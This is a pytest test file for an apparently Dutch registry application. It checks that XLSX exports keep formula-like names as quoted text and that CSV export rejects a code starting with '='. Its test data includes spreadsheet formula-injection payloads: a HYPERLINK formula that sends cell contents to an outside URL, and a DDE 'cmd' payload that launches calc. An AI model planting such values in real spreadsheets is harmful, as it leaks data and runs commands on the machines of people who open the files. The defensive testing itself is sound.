"""Names and codes from the register that look like spreadsheet formulas stay text: the XLSX stores
them as text (read back with openpyxl), and the CSV refuses a code it cannot write safely."""

from __future__ import annotations

import json

import openpyxl
import pytest
from sqlalchemy import func, select

from casus_app.domain.errors import InvalidInput
from casus_app.reports.monitoring.formats import renderer_for
from casus_app.services.exchange.importer import import_file
from casus_app.services.monitoring.export import export_counts
from casus_app.storage.models import AuditEntry
from tests.conftest import EXAMPLE

LINK = '=HYPERLINK("https://example.org/?d="&A1,"Klik hier")'
NAMES = {
    "gebied": LINK,
    "gebied 2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "categorie": "+1+2",
    "categorie 2": "-2+3",
}


def _register(ws, tmp_path, second_code: str) -> None:
    doc = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    doc["gebieden"][0]["naam"] = NAMES["gebied"]
    doc["gebieden"].append({"code": second_code, "naam": NAMES["gebied 2"], "buurten": []})
    doc["categorieen"][0]["naam"] = NAMES["categorie"]
    doc["categorieen"][1]["naam"] = NAMES["categorie 2"]
    path = tmp_path / "formules.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    import_file(ws, path)


def test_xlsx_keeps_formula_like_names_as_text(admin_ws, tmp_path) -> None:
    _register(admin_ws, tmp_path, "=X1")
    out = export_counts(admin_ws, "2026Q3", "xlsx", tmp_path / "telling.xlsx", render=renderer_for("xlsx"))
    workbook = openpyxl.load_workbook(out)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert not any(isinstance(c.value, str) and c.value.startswith("=") and not c.quotePrefix for c in cells)
    for text in (*NAMES.values(), "=X1"):
        found = [c for c in cells if c.value == text]
        assert found, text
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text


def test_csv_refuses_a_code_that_would_run_as_a_formula(admin_ws, tmp_path) -> None:
    _register(admin_ws, tmp_path, "=X1")
    with admin_ws.register.read_session() as session:
        before = session.scalar(select(func.count()).select_from(AuditEntry))
    out = tmp_path / "telling.csv"
    with pytest.raises(InvalidInput, match=r"gebiedscode '=X1' begint met '='.*xlsx"):
        export_counts(admin_ws, "2026Q3", "csv", out, render=renderer_for("csv"))
    assert not out.exists()
    with admin_ws.register.read_session() as session:
        assert session.scalar(select(func.count()).select_from(AuditEntry)) == before
